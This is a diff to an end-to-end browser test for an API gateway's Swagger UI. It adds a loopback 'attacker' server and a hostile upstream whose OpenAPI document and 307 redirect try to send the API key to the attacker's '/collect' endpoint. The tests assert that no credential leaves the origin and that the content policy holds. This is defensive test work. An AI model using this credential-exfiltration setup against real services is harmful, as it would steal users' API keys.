@@ -1,11 +1,13 @@
 // The API browser end to end: keygate (and the reference upstream it fronts)
 // started from the binaries `cargo test` built, the page loaded over HTTPS in
 // Debian's headless Chromium, authorized as a person would, calls made with
-// "Try it out".
+// "Try it out". A hostile upstream publishes a document that points calls at a
+// second loopback server playing the attacker.
 
 import { test, before, after } from "node:test";
 import assert from "node:assert/strict";
 import { spawn, execFileSync } from "node:child_process";
+import { createServer } from "node:http";
 import { mkdtempSync, writeFileSync, mkdirSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join, resolve } from "node:path";
@@ -20,7 +22,71 @@ const EMAIL = "browser@example.com";
 const PASSWORD = "browser-password";
 const TENANT = "5f1c0c9e-1d2a-4c3b-9e8f-0a1b2c3d4e5f";
 
-let workdir, upstream, keygate, browser, base, apiKey;
+let workdir, upstream, keygate, browser, base, apiKey, attacker, hostile;
+
+/** A loopback HTTP server that records every request; `answer` writes the response. */
+async function recordingServer(answer) {
+  const seen = [];
+  const server = createServer((req, res) => {
+    seen.push({ method: req.method, url: req.url, headers: req.headers });
+    req.resume();
+    req.on("end", () => answer(req, res));
+  });
+  await new Promise((ready) => server.listen(0, "127.0.0.1", ready));
+  return { server, seen, origin: `http://127.0.0.1:${server.address().port}` };
+}
+
+// The attacker: answers everything, preflights included, so a request that
+// left the page would arrive here with whatever headers it carried.
+async function startAttacker() {
+  return recordingServer((req, res) => {
+    res.writeHead(200, {
+      "access-control-allow-origin": req.headers.origin || "*",
+      "access-control-allow-headers": "*, x-authorization, authorization",
+      "access-control-allow-methods": "*",
+      "content-type": "application/json",
+    });
+    res.end("{}");
+  });
+}
+
+// An upstream whose OpenAPI document names the attacker as its server at the
+// document, path and operation level, and whose /hostile/redirect answers
+// with a redirect to the attacker.
+async function startHostileUpstream(attackerOrigin) {
+  const document = {
+    openapi: "3.0.3",
+    info: { title: "hostile", version: "1" },
+    servers: [{ url: attackerOrigin }],
+    tags: [{ name: "hostile" }],
+    paths: {
+      "/hostile/loot": {
+        servers: [{ url: `${attackerOrigin}/path-level` }],
+        get: {
+          tags: ["hostile"],
+          operationId: "stealKey",
+          servers: [{ url: `${attackerOrigin}/operation-level` }],
+          responses: { 200: { description: "ok" } },
+        },
+      },
+      "/hostile/redirect": {
+        get: { tags: ["hostile"], operationId: "followRedirect", responses: { 200: { description: "ok" } } },
+      },
+    },
+  };
+  return recordingServer((req, res) => {
+    if (req.url === "/v3/api-docs") {
+      res.writeHead(200, { "content-type": "application/json" });
+      res.end(JSON.stringify(document));
+    } else if (req.url.startsWith("/hostile/redirect")) {
+      res.writeHead(307, { location: `${attackerOrigin}/collect` });
+      res.end();
+    } else {
+      res.writeHead(200, { "content-type": "application/json" });
+      res.end(JSON.stringify({ looted: false }));
+    }
+  });
+}
 
 function firstMatch(stream, pattern, what) {
   return new Promise((resolveMatch, reject) => {
@@ -39,6 +105,8 @@ before(async () => {
   workdir = mkdtempSync(join(tmpdir(), "keygate-browser-"));
   upstream = spawn(ENTITY_SERVICE, ["--listen", "127.0.0.1:0"], { stdio: ["ignore", "pipe", "inherit"] });
   const [, upstreamAddr] = await firstMatch(upstream.stdout, /listening on (\S+)/, "the entity service");
+  attacker = await startAttacker();
+  hostile = await startHostileUpstream(attacker.origin);
   const config = join(workdir, "keygate.toml");
   writeFileSync(config, `
 [server]
@@ -54,9 +122,16 @@ name = "entities"
 prefix = "/api/"
 upstreams = ["http://${upstreamAddr}"]
 openapi = "/v3/api-docs"
+[[route]]
+name = "hostile"
+prefix = "/hostile/"
+upstreams = ["${hostile.origin}"]
+openapi = "/v3/api-docs"
 `);
-  const env = { ...process.env, KEYGATE_BOOTSTRAP_PASSWORD: "bootstrap-password", RUST_LOG: "info" };
-  delete env.KEYGATE_CONFIG;
+  // keygate reads every KEYGATE_* variable as a setting and refuses unknown
+  // ones, so the test's own (KEYGATE_BIN, KEYGATE_CONFIG) stay out.
+  const env = Object.fromEntries(Object.entries(process.env).filter(([name]) => !name.startsWith("KEYGATE_")));
+  Object.assign(env, { KEYGATE_BOOTSTRAP_PASSWORD: "bootstrap-password", RUST_LOG: "info" });
   const cli = (args, input = "") => execFileSync(KEYGATE, ["--config", config, ...args], { input, env, encoding: "utf8" });
   cli(["user", "add", "--email", EMAIL, "--authority", "TENANT_ADMIN", "--tenant-id", TENANT], PASSWORD + "\n");
   apiKey = cli(["apikey", "create", "--email", EMAIL]).trim().split("\n").pop();
@@ -74,22 +149,52 @@ after(async () => {
   await browser?.close();
   keygate?.kill("SIGTERM");
   upstream?.kill("SIGTERM");
+  attacker?.server.close();
+  hostile?.server.close();
   if (workdir) rmSync(workdir, { recursive: true, force: true });
 });
 
-/** A fresh page (own storage) with the page loaded and the sent X-Authorization headers recorded. */
+/**
+ * A fresh page (own storage) with the page loaded, the sent X-Authorization
+ * headers recorded, and every Content-Security-Policy violation (the page's
+ * securitypolicyviolation events and the console's reports) collected.
+ */
 async function openPage(init) {
   const context = await browser.newContext({ ignoreHTTPSErrors: true, viewport: { width: 1400, height: 1000 } });
   if (init) await context.addInitScript(init.script, init.arg);
+  const violations = [];
+  await context.exposeBinding("reportViolation", (_source, violation) => violations.push(violation));
+  await context.addInitScript(() => {
+    document.addEventListener("securitypolicyviolation", (e) =>
+      window.reportViolation({ directive: e.violatedDirective, blocked: e.blockedURI, source: e.sourceFile }));
+  });
   const page = await context.newPage();
+  page.on("console", (message) => {
+    if (/Content Security Policy/i.test(message.text())) violations.push({ console: message.text() });
+  });
   const sent = [];
   page.on("request", (request) => {
     const header = request.headers()["x-authorization"];
     if (header) sent.push({ url: request.url(), header });
   });
-  await page.goto(`${base}/swagger-ui.html`);
+  const response = await page.goto(`${base}/swagger-ui.html`);
   await page.waitForSelector("#operations-auth-controller-getUser", { timeout: 30_000 });
-  return { context, page, sent };
+  return { context, page, sent, violations, response };
+}
+
+/** Reloads until keygate's document lists the hostile upstream's operations. */
+async function waitForHostileDocument(page) {
+  const deadline = Date.now() + 30_000;
+  while (!(await page.locator("#operations-hostile-stealKey").count())) {
+    assert.ok(Date.now() < deadline, "the hostile upstream's document was not joined");
+    const joined = await page.evaluate(async () => (await (await fetch("/v3/api-docs")).text()).includes("/hostile/loot"));
+    if (joined) {
+      await page.reload();
+      await page.waitForSelector("#operations-auth-controller-getUser");
+    } else {
+      await page.waitForTimeout(100);
+    }
+  }
 }
 
 async function authorize(page, { username, password, key }) {
@@ -128,7 +233,7 @@ async function tryItOut(page, operationId, params = {}) {
 }
 
 test("logging in through the Authorize dialog runs calls as that user", async () => {
-  const { context, page, sent } = await openPage();
+  const { context, page, sent, violations } = await openPage();
   await authorize(page, { username: EMAIL, password: PASSWORD });
   const [status, body] = await tryItOut(page, "operations-auth-controller-getUser");
   assert.equal(status, "200");
@@ -151,6 +256,7 @@ test("logging in through the Authorize dialog runs calls as that user", async ()
   await page.waitForResponse((r) => r.url().endsWith("/api/auth/user"));
   const [afterRefresh] = await tryItOut(page, "operations-auth-controller-getUser");
   assert.equal(afterRefresh, "200");
+  assert.deepEqual(violations, [], "login and refresh stay within the content policy");
   await context.close();
 });
 
@@ -203,4 +309,78 @@ test("a session of the main web UI in localStorage is used without asking", asyn
   assert.equal(status, "200", body);
   assert.ok(seeded.sent.some((s) => s.header === `Bearer ${token}`));
   await seeded.context.close();
+});
+
+test("the page runs under its content policy without a single violation", async () => {
+  const { context, page, violations, response } = await openPage();
+  const headers = response.headers();
+  assert.match(headers["content-security-policy"], /default-src 'self'/);
+  assert.match(headers["content-security-policy"], /frame-ancestors 'none'/);
+  assert.doesNotMatch(headers["content-security-policy"], /unsafe-inline|unsafe-eval/);
+  assert.equal(headers["x-frame-options"], "DENY");
+  assert.equal(headers["x-content-type-options"], "nosniff");
+  assert.equal(headers["referrer-policy"], "no-referrer");
+  await authorize(page, { key: apiKey });
+  const [status] = await tryItOut(page, "operations-auth-controller-getUser");
+  assert.equal(status, "200");
+  // Schemas render too, expanded all the way down.
+  const models = page.locator("section.models");
+  await models.scrollIntoViewIfNeeded();
+  if ((await models.getAttribute("class")).split(" ").indexOf("is-open") < 0) await models.locator("h4 button").click();
+  const schema = models.locator("article.json-schema-2020-12").first();
+  await schema.locator(".json-schema-2020-12-expand-deep-button").click();
+  await schema.locator(".json-schema-2020-12-body:not(.json-schema-2020-12-body--collapsed)").first().waitFor();
+  assert.ok(await page.locator(".info .title").count(), "the page rendered");
+  assert.deepEqual(violations, []);
+  await context.close();
+});
+
+test("a hostile upstream document cannot send the API key to another origin", async () => {
+  const { context, page, sent, violations } = await openPage();
+  await waitForHostileDocument(page);
+  await authorize(page, { key: apiKey });
+  const [status, body] = await tryItOut(page, "operations-hostile-stealKey");
+  assert.equal(status, "200", body);
+  assert.ok(body.includes("looted"), body);
+  const loot = sent.filter((s) => s.url.includes("/hostile/loot"));
+  assert.ok(loot.length > 0, JSON.stringify(sent));
+  assert.ok(loot.every((s) => s.url.startsWith(`${base}/hostile/loot`)), "calls go to keygate's origin: " + JSON.stringify(loot));
+  assert.ok(sent.every((s) => s.url.startsWith(`${base}/`)), "no credential left the origin: " + JSON.stringify(sent));
+  const upstreamSaw = hostile.seen.filter((r) => r.url.startsWith("/hostile/loot"));
+  assert.ok(upstreamSaw.length > 0 && upstreamSaw.every((r) => !r.headers["x-authorization"]), "keygate forwards no key either");
+
+  // The page's own rule, whatever a document says: a request for another
+  // origin leaves the interceptor with no credential; one for this origin gets it.
+  const [foreign, own] = await page.evaluate(async (attackerOrigin) => {
+    const intercept = window.ui.getConfigs().requestInterceptor;
+    const away = await intercept({ url: `${attackerOrigin}/collect`, method: "GET", headers: { "X-Authorization": "ApiKey copied", authorization: "Basic eDp5" } });
+    const home = await intercept({ url: `${location.origin}/api/auth/user`, method: "GET", headers: {} });
+    return [away.headers, home.headers];
+  }, attacker.origin);
+  assert.deepEqual(foreign, {});
+  assert.equal(own["X-Authorization"], `ApiKey ${apiKey}`);
+  assert.deepEqual(violations, []);
+
+  // An upstream that redirects a call to the attacker: the browser refuses to follow.
+  const blocked = new Promise((resolveBlocked, reject) => {
+    const deadline = Date.now() + 15_000;
+    const check = setInterval(() => {
+      // Chrome reports the URL before the redirect as the one blocked.
+      if (violations.some((v) => v.directive === "connect-src" && v.blocked === `${base}/hostile/redirect`)) {
+        clearInterval(check);
+        resolveBlocked();
+      } else if (Date.now() > deadline) {
+        clearInterval(check);
+        reject(new Error("the redirect was not refused: " + JSON.stringify(violations)));
+      }
+    }, 20);
+  });
+  const block = page.locator("#operations-hostile-followRedirect");
+  await block.locator(".opblock-summary").first().click();
+  await block.locator("button.try-out__btn").click();
+  await block.locator("button.execute").click();
+  await blocked;
+  assert.ok(hostile.seen.some((r) => r.url.startsWith("/hostile/redirect")), "the call reached the upstream through keygate");
+  assert.deepEqual(attacker.seen, [], "the attacker received no request at all");
+  await context.close();
 });
